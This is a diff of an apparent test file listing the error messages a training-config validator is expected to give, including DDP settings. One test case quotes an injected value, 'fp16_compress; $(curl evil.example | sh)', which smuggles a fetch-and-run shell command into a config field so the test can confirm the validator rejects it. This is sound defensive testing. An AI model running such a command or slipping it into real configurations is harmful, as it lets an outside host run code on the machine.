@@ -61,8 +61,7 @@ EXPECTED = {
                                    "dataloader.num_workers: 0"],
     "repeats_zero": ["repeats is 0", "must be at least 1"],
     # DDP's settings (config ddp): nothing hostile reaches a job's command line or DDP
-    "ddp_bucket_nan": ["broken.yaml: ddp.bucket_cap_mb is nan but must be a number of MiB above 0",
-                       "or null for torch's default"],
+    "ddp_bucket_nan": ["broken.yaml: ddp.bucket_cap_mb is nan, which no setting can use", "give a finite number"],
     "ddp_comm_hook_shell": ["broken.yaml: ddp.comm_hook is 'fp16_compress; $(curl evil.example | sh)'",
                             "must be one of: none, fp16_compress, bf16_compress"],
     "ddp_misspelt_key": ["broken.yaml: unknown key 'find_unused_params' in ddp", "did you mean 'find_unused_parameters'?"],
